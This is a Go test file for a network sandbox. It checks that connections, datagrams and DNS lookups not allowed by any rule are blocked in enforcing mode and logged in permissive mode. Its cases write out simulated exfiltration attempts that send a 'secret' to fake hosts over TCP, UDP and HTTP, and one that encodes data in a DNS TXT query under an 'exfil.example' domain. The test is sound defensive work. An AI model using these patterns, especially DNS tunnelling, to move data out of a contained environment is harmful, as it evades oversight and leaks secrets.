package bypass_test

import (
	"testing"

	"openshell.ai/openshell/test/fakenet"
)

// What no rule allows reaches nobody in enforcing mode: no connection, no
// datagram, and no name, which could carry data. In permissive mode it does, and
// is logged.
func TestWhatNoRuleAllows(t *testing.T) {
	const secret = "mfzwizltoq.exfil.example"
	echo := fakenet.Addrs(fakenet.EchoHost)[0].String()
	attempt := func(b *box) {
		b.Start()
		for _, a := range []struct {
			argv   []string
			want   string
			logged []string
		}{
			{[]string{"tcp", "-t", "5s", fakenet.EchoHost + ":7", "secret"}, "tcp " + fakenet.EchoHost, []string{fakenet.EchoHost}},
			{[]string{"tcp", "-t", "5s", echo + ":7", "secret"}, "tcp " + fakenet.EchoHost, []string{echo}},
			{[]string{"udp", "-t", "5s", echo + ":7", "secret"}, "udp " + fakenet.EchoHost, []string{echo}},
			{[]string{"get", "http://" + fakenet.WebHost + "/secret"}, "GET " + fakenet.WebHost + " /secret", []string{"/secret"}},
			{[]string{"dns", secret, "TXT"}, "query " + secret, nil},
		} {
			b.World.Net.Reset()
			o := b.Exec(append([]string{"/usr/bin/client"}, a.argv...)...)
			b.judge(a.argv[0], o, !b.enforced(), a.want)
			b.logged(a.logged...)
		}
	}
	inEveryBox(t, nothing, attempt)
	withoutBox(t, attempt)
}
